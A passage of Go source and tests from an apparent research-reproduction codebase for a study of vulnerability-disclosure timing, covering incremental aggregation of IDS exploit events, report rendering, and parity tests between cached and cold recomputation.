	// means re-attribution is defeating the incremental path.
	Rebuilds uint64
}

// Metrics returns the fold/rebuild counters. Safe without the lock.
func (inc *Incremental) Metrics() IncrementalMetrics {
	return IncrementalMetrics{
		Folds:        inc.folds.Load(),
		FoldedEvents: inc.foldedEvents.Load(),
		Rebuilds:     inc.rebuilds.Load(),
	}
}

// Results returns the Results for the store's current generation, folding
// only the events appended since the previous call. Safe for concurrent use;
// callers must treat the returned Results as shared and read-only, exactly
// like Study.ResultsFromStore's output under the daemon's cache.
func (inc *Incremental) Results() (*Results, uint64) {
	inc.mu.Lock()
	defer inc.mu.Unlock()
	for {
		gen := inc.store.Generation()
		if inc.valid && gen == inc.gen {
			return inc.res, inc.gen
		}
		parts := inc.store.PublishedEvents()
		amends := inc.store.Amendments()
		if inc.store.Generation() != gen {
			continue // an append raced the reads; retry for a stable view
		}
		if !inc.fold(parts, amends) {
			inc.rebuild(parts, amends, gen)
		}
		inc.parts, inc.amends, inc.gen = parts, amends, gen
		inc.res = inc.materialize()
		inc.valid = true
		return inc.res, inc.gen
	}
}

// fold absorbs the view's new per-shard suffixes into the running aggregates.
// It reports false — leaving the aggregates untouched — when only a rebuild
// is correct: the first build, a changed amendment log, or a new raw event
// whose session an existing amendment claims (the overlay would replace or
// retract it, so counting its raw label would diverge from the cold path).
func (inc *Incremental) fold(parts [][]ids.Event, amends []eventstore.Amendment) bool {
	if !inc.valid || len(parts) != len(inc.positions) || len(amends) != inc.amendCount {
		return false
	}
	if len(inc.wins) > 0 {
		for i, p := range parts {
			for j := inc.positions[i]; j < len(p); j++ {
				if _, hit := inc.wins[eventstore.SessionKeyOf(&p[j])]; hit {
					return false
				}
			}
		}
	}
	n := 0
	for i, p := range parts {
		suffix := p[inc.positions[i]:]
		if len(suffix) == 0 {
			continue
		}
		inc.stats.AddEvents(suffix)
		inc.lc.AddEvents(suffix, inc.study.ruleset)
		inc.positions[i] = len(p)
		n += len(suffix)
	}
	inc.merged = nil
	inc.folds.Add(1)
	inc.foldedEvents.Add(uint64(n))
	return true
}

// rebuild recomputes the aggregates from scratch over the pinned view —
// exactly the cold path's merge, sort, and amendment overlay — and resets the
// fold positions to the view's edge.
func (inc *Incremental) rebuild(parts [][]ids.Event, amends []eventstore.Amendment, gen uint64) {
	total := 0
	for _, p := range parts {
		total += len(p)
	}
	merged := make([]ids.Event, 0, total)
	for _, p := range parts {
		merged = append(merged, p...)
	}
	eventstore.SortEvents(merged)
	merged = eventstore.ApplyAmendments(merged, amends)
	inc.stats = ids.NewStatsBuilder()
	inc.stats.AddEvents(merged)
	inc.lc = lifecycle.NewBuilder()
	inc.lc.AddEvents(merged, inc.study.ruleset)
	if inc.positions == nil || len(inc.positions) != len(parts) {
		inc.positions = make([]int, len(parts))
	}
	for i, p := range parts {
		inc.positions[i] = len(p)
	}
	inc.amendCount = len(amends)
	inc.wins = eventstore.ResolveAmendments(amends)
	inc.merged = merged
	inc.rebuilds.Add(1)
	if inc.valid {
		// A fallback, not the initial build: the incremental promise was not
		// kept for this generation. Loud on purpose — under steady ingest this
		// line appearing per generation means re-attribution churn is turning
		// every bump into a full replay.
		log.Printf("wayback: incremental fallback: full rebuild at generation %d (%d events, %d amendment records)",
			gen, len(merged), len(amends))
	}
}

// materialize builds the Results for the current aggregates. Everything
// derived matches what finish() computes on the cold path; the raw event set
// is lazy when the generation was absorbed by folding (figures and Table 5
// pay the merge only if asked for).
func (inc *Incremental) materialize() *Results {
	res := newResults(inc.study.cfg)
	res.Stats = inc.stats.Stats()
	if inc.study.cfg.PipelineTimelines {
		res.Timelines = inc.lc.Timelines()
	} else {
		res.Timelines = lifecycle.StudyTimelines()
	}
	if !inc.kevSet {
		// Deterministic in the seed, so one generation's catalog is every
		// generation's catalog.
		inc.kev = datasets.GenerateKEV(datasets.KEVConfig{Seed: inc.study.cfg.Seed})
		inc.kevSet = true
	}
	res.KEV = inc.kev
	if inc.merged != nil {
		res.Events = inc.merged
		inc.merged = nil
		return res
	}
	// Pin the immutable shard prefixes and amendment prefix of this view and
	// replay Snapshot's exact computation on demand: concatenate in shard
	// order, stable-sort into canonical order, resolve amendments. Appends
	// after this point only ever extend past the pinned lengths, so the
	// closure's inputs never change under it.
	parts, amends := inc.parts, inc.amends
	res.eventsFn = func() ([]ids.Event, error) {
		total := 0
		for _, p := range parts {
			total += len(p)
		}
		merged := make([]ids.Event, 0, total)
		for _, p := range parts {
			merged = append(merged, p...)
		}
		eventstore.SortEvents(merged)
		return eventstore.ApplyAmendments(merged, amends), nil
	}
	return res
}
