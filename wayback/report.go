package wayback

import (
	"fmt"
	"io"
	"strings"

	"repro/internal/core"
)

// WriteReport renders a self-contained markdown study report: capture
// scale, Table 4 with skill, the Section 6 exposure headlines, the
// Finding 7 counterfactual, the KEV comparison, and the skill trend — the
// numbers a reader checks against the paper, regenerated from this run.
func (r *Results) WriteReport(w io.Writer) error {
	var b strings.Builder
	b.WriteString("# CVE Wayback Machine — study report\n\n")

	fmt.Fprintf(&b, "## Capture\n\n")
	fmt.Fprintf(&b, "- sessions: %d\n", r.Stats.Sessions)
	fmt.Fprintf(&b, "- exploit events: %d\n", r.Stats.MatchedEvents)
	fmt.Fprintf(&b, "- distinct CVEs: %d (paper: 63)\n", r.Stats.DistinctCVEs)
	fmt.Fprintf(&b, "- distinct scanner sources: %d\n", r.Stats.DistinctSrcIPs)
	if r.Coverage.UniqueTelescopeIPs > 0 {
		fmt.Fprintf(&b, "- unique telescope instance IPs: %d\n", r.Coverage.UniqueTelescopeIPs)
	}
	b.WriteString("\n## Table 4 — CVD skill per CVE\n\n")
	b.WriteString("| Desideratum | Satisfied | Baseline | Skill | n |\n|---|---|---|---|---|\n")
	for _, row := range r.Table4Results() {
		fmt.Fprintf(&b, "| %s | %.2f | %.2f | %.2f | %d |\n",
			row.Pair, row.Satisfied, row.Baseline, row.Skill, row.Evaluated)
	}
	fmt.Fprintf(&b, "\nMean skill **%.2f** (paper: 0.37).\n", r.MeanSkill())

	b.WriteString("\n## Section 6 — quantitative exposure\n\n")
	fmt.Fprintf(&b, "- exploit traffic striking defended CVEs: **%.1f%%** (paper: 95%%)\n",
		r.MitigatedShare()*100)
	f7cdf := r.Figure7()
	if f7cdf.Unmit != nil {
		fmt.Fprintf(&b, "- median unmitigated exposure at **%+.0f days** from publication (paper: ~30)\n",
			f7cdf.Unmit.Quantile(0.5))
	}
	var da5 core.DesideratumResult
	for _, row := range r.Table5Results() {
		if row.Pair.String() == "D < A" {
			da5 = row
		}
	}
	fmt.Fprintf(&b, "- per-event D < A: **%.2f** (paper: 0.95; per-CVE: 0.56)\n", da5.Satisfied)

	f7 := r.Finding7()
	b.WriteString("\n## Finding 7 — IDS vendors in disclosure (counterfactual)\n\n")
	fmt.Fprintf(&b, "D < A satisfaction %.2f → %.2f; skill %+.0f%% (paper: +32%%).\n",
		f7.BeforeSatisfied, f7.AfterSatisfied, f7.SkillImprovement*100)

	kev := r.KEVComparison()
	b.WriteString("\n## Section 7.2 — KEV comparison\n\n")
	fmt.Fprintf(&b, "- study CVEs in KEV: %d/63 (paper: 44)\n", kev.OverlapCount)
	fmt.Fprintf(&b, "- telescope-first share: %.0f%% (paper: 59%%)\n", kev.DscopeFirstShare*100)
	fmt.Fprintf(&b, "- seen >30 days before KEV: %.0f%% (paper: 50%%)\n", kev.Over30DaysShare*100)
	fmt.Fprintf(&b, "- KEV P(A<P): %.2f vs telescope %.2f (paper: 0.18 vs 0.10)\n",
		kev.KevPrePublicationRate, kev.DscopePrePublicationRate)

	b.WriteString("\n## Skill trend (publication halves)\n\n")
	for _, p := range r.SkillTrend(2) {
		fmt.Fprintf(&b, "- %s → %s: %d CVEs, mean skill %.2f\n",
			p.Start.Format("2006-01"), p.End.Format("2006-01"), p.CVEs, p.MeanSkill)
	}

	_, err := io.WriteString(w, b.String())
	return err
}
