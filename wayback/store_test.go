package wayback

import (
	"math/rand"
	"testing"
)

// TestResultsFromStoreMatchesRun proves the store path is analysis-
// equivalent to the batch path: events appended to an event store in
// arbitrary order yield byte-identical tables when read back.
func TestResultsFromStoreMatchesRun(t *testing.T) {
	study, err := NewStudy(Config{Seed: 1, PipelineTimelines: true})
	if err != nil {
		t.Fatal(err)
	}
	batch, err := study.Run()
	if err != nil {
		t.Fatal(err)
	}
	if len(batch.Events) == 0 {
		t.Fatal("batch run produced no events")
	}

	store, err := OpenStore(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	// Append in shuffled order: a streaming daemon's append order depends on
	// batching, so analysis equality must not depend on it.
	shuffled := append([]int(nil), make([]int, len(batch.Events))...)
	for i := range shuffled {
		shuffled[i] = i
	}
	rand.New(rand.NewSource(7)).Shuffle(len(shuffled), func(i, j int) {
		shuffled[i], shuffled[j] = shuffled[j], shuffled[i]
	})
	for start := 0; start < len(shuffled); start += 97 {
		end := start + 97
		if end > len(shuffled) {
			end = len(shuffled)
		}
		var chunk []int = shuffled[start:end]
		evs := batch.Events[:0:0]
		for _, i := range chunk {
			evs = append(evs, batch.Events[i])
		}
		if err := store.AppendBatch(evs); err != nil {
			t.Fatal(err)
		}
	}

	res, gen := study.ResultsFromStore(store)
	if gen == 0 || gen != store.Generation() {
		t.Fatalf("generation %d, store at %d", gen, store.Generation())
	}
	if len(res.Events) != len(batch.Events) {
		t.Fatalf("store returned %d events, batch had %d", len(res.Events), len(batch.Events))
	}
	for name, pair := range map[string][2]string{
		"Table4": {batch.Table4().String(), res.Table4().String()},
		"Table5": {batch.Table5().String(), res.Table5().String()},
	} {
		if pair[0] != pair[1] {
			t.Errorf("%s differs between batch run and store:\nbatch:\n%s\nstore:\n%s", name, pair[0], pair[1])
		}
	}
	if batch.MitigatedShare() != res.MitigatedShare() {
		t.Errorf("MitigatedShare: batch %v, store %v", batch.MitigatedShare(), res.MitigatedShare())
	}
	if res.Stats.MatchedEvents != len(res.Events) {
		t.Errorf("stats matched %d, events %d", res.Stats.MatchedEvents, len(res.Events))
	}
	if res.Stats.DistinctCVEs != batch.Stats.DistinctCVEs || res.Stats.DistinctSrcIPs != batch.Stats.DistinctSrcIPs {
		t.Errorf("distinct counts diverge: store %+v, batch %+v", res.Stats, batch.Stats)
	}
}
