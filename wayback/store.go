package wayback

import (
	"repro/internal/eventstore"
	"repro/internal/ids"
)

// OpenStore opens (creating if needed) a waybackd event store — the
// append-only log the streaming ingest daemon writes. The returned store is
// the bridge between continuous capture and the paper's batch analyses: feed
// its snapshots to Study.ResultsFromEvents and every table and figure method
// works on live data.
func OpenStore(dir string) (*eventstore.Store, error) {
	return eventstore.Open(dir, eventstore.Options{})
}

// ResultsFromEvents builds a Results from an externally captured event set —
// typically an eventstore snapshot — instead of running the simulated
// workload. Lifecycle assembly follows the study configuration: with
// Config.PipelineTimelines the timelines are derived from the events
// themselves (order-insensitively, so any stable event ordering yields
// identical tables); otherwise the embedded Appendix E timelines are used.
//
// Stats covers only what events alone can tell: matched counts, distinct
// CVEs and sources. Capture-side numbers (packets, sessions) live with the
// capture pipeline, not the store.
func (s *Study) ResultsFromEvents(events []ids.Event) *Results {
	res := newResults(s.cfg)
	res.Events = events
	b := ids.NewStatsBuilder()
	b.AddEvents(events)
	res.Stats = b.Stats()
	res.finish(s)
	return res
}

// ResultsFromStore builds a Results from the store's current snapshot and
// returns the snapshot generation alongside it. The generation changes
// exactly when new events land, so callers (the daemon's query layer) can
// cache the Results — and everything derived from it — keyed by generation.
func (s *Study) ResultsFromStore(st *eventstore.Store) (*Results, uint64) {
	sn := st.Snapshot()
	return s.ResultsFromEvents(sn.Events()), sn.Generation()
}
