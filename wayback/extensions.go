package wayback

import (
	"time"

	"repro/internal/artifacts"
	"repro/internal/core"
	"repro/internal/ids"
	"repro/internal/scanner"
	"repro/internal/transfer"
)

// Extensions: the paper's Section 8 / Finding 19 proposals, runnable
// against study results.

// DisclosureArtifacts reconstructs the machine-readable disclosure artifacts
// (Section 8.2) the study's data implies for all 63 CVEs.
func (r *Results) DisclosureArtifacts() ([]*artifacts.Artifact, error) {
	return artifacts.StudyCorpus()
}

// AuditLeadingMatches surfaces CVEs whose traffic precedes their signature's
// publication — the inputs to the paper's Section 3.2 manual root-cause
// review.
func (r *Results) AuditLeadingMatches(rulePub map[int]time.Time) []ids.LeadingMatch {
	return ids.AuditLeadingMatches(r.events(), rulePub)
}

// TransferScan runs the Finding-19 transferability detector over the study's
// events: it learns each CVE's payload family from that CVE's first
// observations, then reports later sessions whose payloads match a known
// family on a port the family never targeted.
func (r *Results) TransferScan(samplesPerFamily int) transfer.TransferReport {
	if samplesPerFamily <= 0 {
		samplesPerFamily = 5
	}
	det := transfer.NewDetector()
	// Events do not retain payload bytes (only the IDS verdict), so the
	// detector learns and scans over the regenerated workload, which
	// determinism guarantees matches the capture the study analyzed.
	bps, err := scanner.Build(scanner.Config{
		Seed: r.cfg.Seed, Scale: r.cfg.Scale, Noise: r.cfg.Noise,
	})
	if err != nil {
		return transfer.TransferReport{}
	}
	learned := map[string]int{}
	var payloads [][]byte
	var ports []uint16
	for _, bp := range bps {
		if bp.CVE == "" || bp.Legacy {
			payloads = append(payloads, bp.Payload)
			ports = append(ports, bp.DstPort)
			continue
		}
		if learned[bp.CVE] < samplesPerFamily {
			det.Learn("CVE-"+bp.CVE, bp.Payload, bp.DstPort)
			learned[bp.CVE]++
			continue
		}
		payloads = append(payloads, bp.Payload)
		ports = append(ports, bp.DstPort)
	}
	return det.Scan(payloads, ports)
}

// SkillTrend evaluates CVD skill over publication-date periods — the
// "evolution of CVD effectiveness over time" analysis the paper anticipates
// its dataset enabling.
func (r *Results) SkillTrend(periods int) []core.PeriodSkill {
	return core.SkillTrend(r.Timelines, core.PublishedBaselines(), periods)
}
