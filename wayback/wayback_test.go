package wayback

import (
	"strings"
	"testing"
)

func run(t testing.TB, cfg Config) *Results {
	t.Helper()
	study, err := NewStudy(cfg)
	if err != nil {
		t.Fatal(err)
	}
	res, err := study.Run()
	if err != nil {
		t.Fatal(err)
	}
	return res
}

func TestStudyRunFastPath(t *testing.T) {
	res := run(t, Config{Seed: 1, Scale: 200})
	if res.Stats.MatchedEvents == 0 {
		t.Fatal("no exploit events")
	}
	if res.Stats.DistinctCVEs != 63 {
		t.Errorf("distinct CVEs = %d, want 63", res.Stats.DistinctCVEs)
	}
	// Noise must exist and not be attributed.
	if res.Stats.Sessions <= res.Stats.MatchedEvents {
		t.Error("no unmatched (noise) sessions")
	}
	if len(res.Timelines) != 63 {
		t.Errorf("timelines = %d", len(res.Timelines))
	}
}

func TestPcapPathMatchesFastPath(t *testing.T) {
	fast := run(t, Config{Seed: 5, Scale: 1500})
	slow := run(t, Config{Seed: 5, Scale: 1500, UsePcap: true})
	if fast.Stats.MatchedEvents != slow.Stats.MatchedEvents {
		t.Errorf("fast %d events, pcap %d", fast.Stats.MatchedEvents, slow.Stats.MatchedEvents)
	}
	if slow.Stats.DecodeErrors != 0 {
		t.Errorf("decode errors = %d", slow.Stats.DecodeErrors)
	}
}

func TestTablesRender(t *testing.T) {
	res := run(t, Config{Seed: 2, Scale: 300})
	for name, s := range map[string]string{
		"table1": res.Table1().String(),
		"table2": res.Table2().String(),
		"table3": res.Table3(),
		"table4": res.Table4().String(),
		"table5": res.Table5().String(),
		"table6": res.Table6().String(),
		"appE":   res.AppendixE().String(),
	} {
		if len(s) < 50 {
			t.Errorf("%s suspiciously short:\n%s", name, s)
		}
	}
	if !strings.Contains(res.Table4().String(), "V < A") {
		t.Error("Table 4 missing desiderata")
	}
}

func TestHeadlineNumbers(t *testing.T) {
	res := run(t, Config{Seed: 3, Scale: 100})
	if ms := res.MeanSkill(); ms < 0.35 || ms > 0.39 {
		t.Errorf("mean skill = %.3f, want ~0.37", ms)
	}
	if share := res.MitigatedShare(); share < 0.9 {
		t.Errorf("mitigated share = %.3f", share)
	}
	f7 := res.Finding7()
	if f7.AfterSatisfied <= f7.BeforeSatisfied {
		t.Error("Finding 7 counterfactual did not improve")
	}
	kev := res.KEVComparison()
	if kev.OverlapCount != 44 {
		t.Errorf("KEV overlap = %d", kev.OverlapCount)
	}
}

func TestFiguresPopulated(t *testing.T) {
	res := run(t, Config{Seed: 4, Scale: 100})
	if res.Figure1().Total() != 63 {
		t.Errorf("Figure 1 total = %d, want 63", res.Figure1().Total())
	}
	if got := len(res.Figure2()); got != 3 {
		t.Errorf("Figure 2 series = %d", got)
	}
	if res.Figure3().Total() == 0 || res.Figure4().Total() == 0 {
		t.Error("timeline figures empty")
	}
	if got := len(res.Figure5()); got != 3 {
		t.Errorf("Figure 5 CDFs = %d", got)
	}
	if got := len(res.Figures13to18()); got != 6 {
		t.Errorf("appendix CDFs = %d", got)
	}
	f6 := res.Figure6()
	sum := 0
	for i := range f6.Mitigated {
		sum += f6.Mitigated[i] + f6.Unmit[i]
	}
	if sum == 0 {
		t.Error("Figure 6 empty")
	}
	f7 := res.Figure7()
	if f7.Mitigated == nil || f7.Unmit == nil {
		t.Error("Figure 7 missing curves")
	}
	if res.Figure8().CDF == nil || res.Figure12().CDF == nil {
		t.Error("case-study CDFs missing")
	}
	if got := len(res.Figure9()); got != 5 {
		t.Errorf("Figure 9 groups = %d", got)
	}
	if len(res.Figure10().Points) == 0 || len(res.Figure11().Points) == 0 {
		t.Error("KEV figures empty")
	}
}

func TestPipelineTimelines(t *testing.T) {
	res := run(t, Config{Seed: 6, Scale: 100, PipelineTimelines: true})
	if len(res.Timelines) != 63 {
		t.Fatalf("pipeline timelines = %d, want 63 (every CVE has traffic)", len(res.Timelines))
	}
	// Pipeline-derived Table 4 must agree with the appendix-derived one on
	// the F < P rate: the rule publication dates come from the same data.
	appendix := run(t, Config{Seed: 6, Scale: 100})
	var pipeFP, appFP float64
	for _, r := range res.Table4Results() {
		if r.Pair.String() == "F < P" {
			pipeFP = r.Satisfied
		}
	}
	for _, r := range appendix.Table4Results() {
		if r.Pair.String() == "F < P" {
			appFP = r.Satisfied
		}
	}
	if diff := pipeFP - appFP; diff > 0.03 || diff < -0.03 {
		t.Errorf("pipeline F<P %.3f vs appendix %.3f", pipeFP, appFP)
	}
}

func TestDeterminism(t *testing.T) {
	a := run(t, Config{Seed: 9, Scale: 400})
	b := run(t, Config{Seed: 9, Scale: 400})
	if a.Stats != b.Stats {
		t.Errorf("stats differ: %+v vs %+v", a.Stats, b.Stats)
	}
	if len(a.Events) != len(b.Events) {
		t.Fatal("event counts differ")
	}
	for i := range a.Events {
		if a.Events[i] != b.Events[i] {
			t.Fatalf("event %d differs", i)
		}
	}
}

func TestPortSensitiveAblation(t *testing.T) {
	insensitive := run(t, Config{Seed: 7, Scale: 300})
	sensitive := run(t, Config{Seed: 7, Scale: 300, PortSensitive: true})
	// Port-sensitive matching must miss the off-port exploit traffic
	// (~20% of the workload sprays non-standard ports).
	if sensitive.Stats.MatchedEvents >= insensitive.Stats.MatchedEvents {
		t.Errorf("port-sensitive %d >= insensitive %d",
			sensitive.Stats.MatchedEvents, insensitive.Stats.MatchedEvents)
	}
	lost := 1 - float64(sensitive.Stats.MatchedEvents)/float64(insensitive.Stats.MatchedEvents)
	if lost < 0.08 || lost > 0.35 {
		t.Errorf("port-sensitivity recall loss = %.3f, want ~0.2", lost)
	}
}

func TestDisclosureArtifacts(t *testing.T) {
	res := run(t, Config{Seed: 1, Scale: 500})
	corpus, err := res.DisclosureArtifacts()
	if err != nil {
		t.Fatal(err)
	}
	if len(corpus) != 63 {
		t.Fatalf("corpus = %d", len(corpus))
	}
}

func TestTransferScan(t *testing.T) {
	res := run(t, Config{Seed: 1, Scale: 100})
	rep := res.TransferScan(5)
	if rep.Sessions == 0 {
		t.Fatal("no sessions scanned")
	}
	if rep.Matched == 0 {
		t.Error("no held-out exploit traffic recognized")
	}
	// The workload sprays ~20% of exploit sessions off-port, so novel-
	// domain hits must appear.
	if len(rep.NovelDomain) == 0 {
		t.Error("no novel-domain applications detected")
	}
}

func TestAuditThroughFacade(t *testing.T) {
	study, err := NewStudy(Config{Seed: 1, Scale: 500})
	if err != nil {
		t.Fatal(err)
	}
	res, err := study.Run()
	if err != nil {
		t.Fatal(err)
	}
	leading := res.AuditLeadingMatches(study.RulePublications())
	// Appendix E has 8 CVEs with D < P plus several with A < D; leading
	// matches must include the F5 rule-leading case.
	found := false
	for _, lm := range leading {
		if lm.CVE == "2022-1388" {
			found = true
		}
	}
	if !found && len(leading) == 0 {
		t.Error("no leading matches surfaced")
	}
}

// The paper's signature-filtering step: with legacy traffic present, the
// filtered study sees exactly the 63 in-window CVEs while the unfiltered
// ablation additionally attributes longstanding CVEs.
func TestSignatureFilteringAblation(t *testing.T) {
	filtered := run(t, Config{Seed: 11, Scale: 300, LegacyScans: 120})
	if filtered.Stats.DistinctCVEs != 63 {
		t.Errorf("filtered distinct CVEs = %d, want 63", filtered.Stats.DistinctCVEs)
	}
	for _, ev := range filtered.Events {
		if ev.CVE != "" && (ev.CVE[0:3] == "201" || ev.CVE[0:5] == "2020-") {
			t.Fatalf("filtered study attributed legacy CVE-%s", ev.CVE)
		}
	}

	unfiltered := run(t, Config{Seed: 11, Scale: 300, LegacyScans: 120, UnfilteredRules: true})
	if unfiltered.Stats.DistinctCVEs <= 63 {
		t.Errorf("unfiltered distinct CVEs = %d, want > 63", unfiltered.Stats.DistinctCVEs)
	}
	if unfiltered.Stats.MatchedEvents <= filtered.Stats.MatchedEvents {
		t.Error("unfiltered engine should attribute the legacy traffic too")
	}
	legacy := unfiltered.Stats.MatchedEvents - filtered.Stats.MatchedEvents
	if legacy < 100 {
		t.Errorf("legacy attributions = %d, want ~120", legacy)
	}
}

func TestWriteReport(t *testing.T) {
	res := run(t, Config{Seed: 1, Scale: 300})
	var buf strings.Builder
	if err := res.WriteReport(&buf); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, want := range []string{
		"Table 4", "Mean skill", "Finding 7", "KEV comparison",
		"V < A", "per-event D < A", "Skill trend",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("report missing %q", want)
		}
	}
}

func TestPcapPathWithLegacyTraffic(t *testing.T) {
	// The byte-exact path and the fast path agree with legacy traffic in
	// the capture too.
	fast := run(t, Config{Seed: 13, Scale: 1500, LegacyScans: 30})
	slow := run(t, Config{Seed: 13, Scale: 1500, LegacyScans: 30, UsePcap: true})
	if fast.Stats.MatchedEvents != slow.Stats.MatchedEvents {
		t.Errorf("fast %d vs pcap %d", fast.Stats.MatchedEvents, slow.Stats.MatchedEvents)
	}
	if fast.Stats.DistinctCVEs != 63 || slow.Stats.DistinctCVEs != 63 {
		t.Errorf("distinct CVEs %d / %d", fast.Stats.DistinctCVEs, slow.Stats.DistinctCVEs)
	}
}
