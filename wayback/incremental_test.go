package wayback

import (
	"reflect"
	"testing"

	"repro/internal/eventstore"
	"repro/internal/ids"
)

// assertParity checks that an incremental Results is byte-for-byte
// indistinguishable from a cold recompute at the same generation: the raw
// event set, the scan stats, the timelines, and the rendered analyses that
// exercise each of them.
func assertParity(t *testing.T, step string, study *Study, inc *Incremental, store *eventstore.Store) {
	t.Helper()
	incRes, incGen := inc.Results()
	coldRes, coldGen := study.ResultsFromStore(store)
	if incGen != coldGen {
		t.Fatalf("%s: incremental generation %d, cold %d", step, incGen, coldGen)
	}
	if err := incRes.MaterializeEvents(); err != nil {
		t.Fatalf("%s: materializing incremental events: %v", step, err)
	}
	if !reflect.DeepEqual(incRes.Events, coldRes.Events) {
		t.Fatalf("%s: event sets differ (incremental %d events, cold %d)",
			step, len(incRes.Events), len(coldRes.Events))
	}
	if incRes.Stats != coldRes.Stats {
		t.Fatalf("%s: stats differ:\nincremental %+v\ncold        %+v", step, incRes.Stats, coldRes.Stats)
	}
	if !reflect.DeepEqual(incRes.Timelines, coldRes.Timelines) {
		t.Fatalf("%s: timelines differ", step)
	}
	if got, want := incRes.Table4().String(), coldRes.Table4().String(); got != want {
		t.Fatalf("%s: Table 4 differs:\nincremental:\n%s\ncold:\n%s", step, got, want)
	}
	if got, want := incRes.Table5().String(), coldRes.Table5().String(); got != want {
		t.Fatalf("%s: Table 5 differs", step)
	}
	if !reflect.DeepEqual(incRes.Figure3(), coldRes.Figure3()) {
		t.Fatalf("%s: Figure 3 differs", step)
	}
	if !reflect.DeepEqual(incRes.Figure7(), coldRes.Figure7()) {
		t.Fatalf("%s: Figure 7 differs", step)
	}
	if got, want := incRes.MitigatedShare(), coldRes.MitigatedShare(); got != want {
		t.Fatalf("%s: mitigated share %v, cold %v", step, got, want)
	}
}

// TestIncrementalParity drives a multi-batch ingest — including an amendment
// rescan and a raw event colliding with an amended session — and proves the
// incremental Results equals a from-scratch recompute at every intermediate
// generation.
func TestIncrementalParity(t *testing.T) {
	study, err := NewStudy(Config{Seed: 1, PipelineTimelines: true})
	if err != nil {
		t.Fatal(err)
	}
	batch, err := study.Run()
	if err != nil {
		t.Fatal(err)
	}
	events := batch.Events
	if len(events) < 100 {
		t.Fatalf("study produced only %d events", len(events))
	}
	store, err := eventstore.Open(t.TempDir(), eventstore.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()

	inc := study.NewIncremental(store)

	// Empty store: the initial build over nothing must still match cold.
	assertParity(t, "empty", study, inc, store)

	// Multi-batch ingest: uneven batch sizes so shard suffixes differ per
	// generation.
	cuts := []int{1, 7, len(events) / 3, 2 * len(events) / 3, len(events)}
	prev := 0
	for _, cut := range cuts {
		if err := store.AppendBatch(events[prev:cut]); err != nil {
			t.Fatal(err)
		}
		prev = cut
		assertParity(t, "batch", study, inc, store)
	}
	m := inc.Metrics()
	if m.Rebuilds != 1 {
		t.Fatalf("got %d rebuilds during pure appends, want 1 (the initial build)", m.Rebuilds)
	}
	if m.Folds != uint64(len(cuts)) {
		t.Fatalf("got %d folds for %d append generations", m.Folds, len(cuts))
	}
	if m.FoldedEvents != uint64(len(events)) {
		t.Fatalf("folded %d events, appended %d", m.FoldedEvents, len(events))
	}

	// Amendment rescan: re-label one session, retract another. This must
	// trigger the loud fallback rebuild and still match cold exactly.
	sn := store.Snapshot()
	orig := sn.Events()[0]
	relabeled := orig
	for i := range sn.Events() {
		if cve := sn.Events()[i].CVE; cve != "" && cve != orig.CVE {
			relabeled.CVE = cve
			break
		}
	}
	if relabeled.CVE == orig.CVE {
		t.Fatal("no second CVE in the event set to re-label with")
	}
	retracted := sn.Events()[1]
	retractEv := retracted
	retractEv.SID = 0
	retractEv.CVE = ""
	if err := store.AppendAmendments([]eventstore.Amendment{
		{Event: relabeled, OrigSID: orig.SID, OrigCVE: orig.CVE, Gen: 1},
		{Event: retractEv, OrigSID: retracted.SID, OrigCVE: retracted.CVE, Gen: 1},
	}); err != nil {
		t.Fatal(err)
	}
	assertParity(t, "amendment", study, inc, store)
	if got := inc.Metrics().Rebuilds; got != 2 {
		t.Fatalf("got %d rebuilds after amendment, want 2", got)
	}

	// Appends after the amendment fold incrementally again.
	extra := events[0]
	extra.Time = extra.Time.Add(1)
	if err := store.AppendBatch([]ids.Event{extra}); err != nil {
		t.Fatal(err)
	}
	assertParity(t, "post-amendment append", study, inc, store)
	if got := inc.Metrics().Rebuilds; got != 2 {
		t.Fatalf("got %d rebuilds after non-colliding append, want 2", got)
	}

	// A raw event for a session an amendment claims cannot fold (the overlay
	// rewrites it); it must fall back and still match cold.
	collide := retracted
	if err := store.AppendBatch([]ids.Event{collide}); err != nil {
		t.Fatal(err)
	}
	assertParity(t, "colliding append", study, inc, store)
	if got := inc.Metrics().Rebuilds; got != 3 {
		t.Fatalf("got %d rebuilds after colliding append, want 3", got)
	}

	// Quiet store: repeated queries reuse the cached Results.
	r1, g1 := inc.Results()
	r2, g2 := inc.Results()
	if r1 != r2 || g1 != g2 {
		t.Fatal("quiet-store queries did not reuse the cached Results")
	}
}

// TestIncrementalAppendixTimelines covers the non-pipeline configuration: the
// timelines come from the embedded appendix either way, and parity must hold.
func TestIncrementalAppendixTimelines(t *testing.T) {
	study, err := NewStudy(Config{Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	batch, err := study.Run()
	if err != nil {
		t.Fatal(err)
	}
	store, err := eventstore.Open(t.TempDir(), eventstore.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	inc := study.NewIncremental(store)
	half := len(batch.Events) / 2
	for _, part := range [][]ids.Event{batch.Events[:half], batch.Events[half:]} {
		if err := store.AppendBatch(part); err != nil {
			t.Fatal(err)
		}
		assertParity(t, "appendix", study, inc, store)
	}
}
