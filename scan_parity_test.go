// Study-level parity for the parallel capture front-end: the flow-sharded
// scan must reproduce the serial scan byte for byte on the study's own
// workload — events, stats, and the rendered Table 4 — for every shard
// count, on both a single capture and rotated multi-segment captures.
package repro

import (
	"bytes"
	"fmt"
	"reflect"
	"testing"

	"repro/internal/ids"
	"repro/internal/pcapio"
	"repro/internal/scanner"
	"repro/internal/telescope"
	"repro/wayback"
)

// studyCapture writes the seed's full study capture to pcap bytes — the
// exact bytes Study.Run produces on the UsePcap path.
func studyCapture(t testing.TB, seed int64, scale int) []byte {
	t.Helper()
	bps, err := scanner.Build(scanner.Config{Seed: seed, Scale: scale})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	w, err := pcapio.NewWriter(&buf, pcapio.LinkTypeEthernet, pcapio.WithNanoPrecision())
	if err != nil {
		t.Fatal(err)
	}
	if err := telescope.NewSim(telescope.SimConfig{Seed: seed}).WritePcap(bps, w); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestShardedScanStudyParity(t *testing.T) {
	if testing.Short() {
		t.Skip("full study captures in -short mode")
	}
	for _, seed := range []int64{1, 2, 3} {
		seed := seed
		t.Run(fmt.Sprintf("seed%d", seed), func(t *testing.T) {
			const scale = 120
